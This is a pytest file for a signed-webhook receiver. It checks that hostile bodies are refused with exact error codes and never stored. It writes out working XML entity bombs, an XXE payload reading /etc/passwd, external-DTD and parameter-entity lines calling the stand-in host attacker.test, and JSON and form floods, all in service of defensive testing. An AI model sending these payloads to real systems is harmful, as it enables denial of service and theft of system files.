"""Hostile bodies, correctly signed: each is refused with its exact status and reason, and nothing
is stored.

Signing them is the point: an unsigned hostile body stops at the signature check (401) and never
reaches a decoder. These prove that a sender who holds the secret (or a provider with a bug)
still cannot exhaust the receiver through the decoders.
"""

from __future__ import annotations

import codecs

import pytest

from tests.helpers import asgi_client, make_receiver, signed_headers
from tests.test_asgi import noop

pytestmark = pytest.mark.anyio

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (n, b"".join(b"&lol%s;" % (b"" if n == 1 else b"%d" % (n - 1)) for _ in range(10)))
        for n in range(1, 10)
    )
    + b"]><lolz><type>&lol9;</type></lolz>"
)
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"a" * 50_000
    + b'">]><r><type>'
    + b"&a;" * 2_000
    + b"</type></r>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><type>&x;</type></r>'
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.test/r.dtd"><r><type>t</type></r>'
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]><r/>'
)

DTD_FORBIDDEN = (400, "undecodable_payload", "body is not acceptable XML: DTDForbidden")

CASES: dict[str, tuple[bytes, str, tuple[int, str, str]]] = {
    "xml-billion-laughs": (BILLION_LAUGHS, "text/xml", DTD_FORBIDDEN),
    "xml-quadratic-blowup": (QUADRATIC, "application/xml", DTD_FORBIDDEN),
    "xml-external-entity": (EXTERNAL_ENTITY, "text/xml", DTD_FORBIDDEN),
    "xml-external-dtd": (EXTERNAL_DTD, "text/xml", DTD_FORBIDDEN),
    "xml-parameter-entity": (PARAMETER_ENTITY, "text/xml", DTD_FORBIDDEN),
    "xml-elements-flood": (
        b"<r>" + b"<a/>" * 20_000 + b"</r>",
        "text/xml",
        (400, "undecodable_payload", "XML has more than 10000 elements"),
    ),
    "json-array-100000-deep": (
        b"[" * 100_000 + b"]" * 100_000,
        "application/json",
        (400, "undecodable_payload", "body is not valid JSON: maximum recursion depth exceeded"),
    ),
    "json-object-100000-deep": (
        b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "application/json",
        (400, "undecodable_payload", "body is not valid JSON: maximum recursion depth exceeded"),
    ),
    "json-1000000-digit-integer": (
        b'{"type":"t","n":' + b"9" * 1_000_000 + b"}",
        "application/json",
        (400, "undecodable_payload", "body is not valid JSON: Exceeds the limit (4300 digits)"),
    ),
    "invalid-utf8": (
        b'{"type":"\xff\xfe\xc3("}',
        "application/json",
        (400, "bad_charset", "body is not valid utf-8"),
    ),
    "overlong-utf8-slash": (
        b'{"type":"\xc0\xaf"}',
        "application/json",
        (400, "bad_charset", "body is not valid utf-8"),
    ),
    "utf16-with-bom-undeclared": (
        codecs.BOM_UTF16_LE + '{"type":"t"}'.encode("utf-16-le"),
        "application/json",
        (400, "bad_charset", "body is not valid utf-8"),
    ),
    "utf8-bom-before-json": (
        codecs.BOM_UTF8 + b'{"type":"t"}',
        "application/json",
        (400, "undecodable_payload", "body is not valid JSON: Unexpected UTF-8 BOM"),
    ),
    "missing-content-type": (
        b'{"type":"t"}',
        "",
        (415, "unsupported_content_type", "content type '(none)' is not accepted here"),
    ),
    "wrong-content-type": (
        b'{"type":"t"}',
        "text/plain",
        (415, "unsupported_content_type", "content type 'text/plain' is not accepted here"),
    ),
    "content-type-multipart": (
        b"--x\r\n\r\n{}\r\n--x--",
        "multipart/form-data; boundary=x",
        (415, "unsupported_content_type", "content type 'multipart/form-data' is not accepted here"),
    ),
    "form-100000-fields": (
        b"&".join(b"f%d=v" % i for i in range(100_000)),
        "application/x-www-form-urlencoded",
        (400, "undecodable_payload", "form body cannot be decoded: Max number of fields exceeded"),
    ),
    "form-100000-repeats-of-one-field": (
        b"&".join(b"type=v" for _ in range(100_000)),
        "application/x-www-form-urlencoded",
        (400, "undecodable_payload", "form body cannot be decoded: Max number of fields exceeded"),
    ),
    "empty-json-body": (
        b"",
        "application/json",
        (400, "undecodable_payload", "body is empty; JSON expected"),
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
async def test_a_signed_hostile_body_is_refused_exactly_and_not_stored(case: str) -> None:
    body, content_type, (status, reason, detail) = CASES[case]
    receiver, endpoint = make_receiver(max_body_size=8 * 1024 * 1024)
    handled: list[object] = []
    endpoint.on("*")(handled.append)
    headers = signed_headers(body, content_type, delivery_id=f"hostile-{case}")
    if not content_type:
        del headers["content-type"]
    async with asgi_client(receiver) as client:
        response = await client.post("/orders", content=body, headers=headers)
    assert response.status_code == status, response.text
    answer = response.json()
    assert set(answer) == {"error", "detail"}
    assert answer["error"] == reason
    assert answer["detail"].startswith(detail), answer["detail"]
    assert await receiver.store.state(f"/orders:hostile-{case}") is None
    assert handled == []


async def test_utf16_xml_with_a_bom_is_read_by_its_bom() -> None:
    """XML may name its encoding by a byte order mark (the XML spec, appendix F): it decodes."""
    body = "<r><type>order.created</type></r>".encode("utf-16")  # BOM first
    receiver, endpoint = make_receiver()
    endpoint.on("*")(noop)
    async with asgi_client(receiver) as client:
        response = await client.post("/orders", content=body, headers=signed_headers(body, "text/xml"))
    assert response.status_code == 200, response.text
    assert response.json() == {"status": "accepted", "delivery_id": "d-1", "topic": "order.created"}
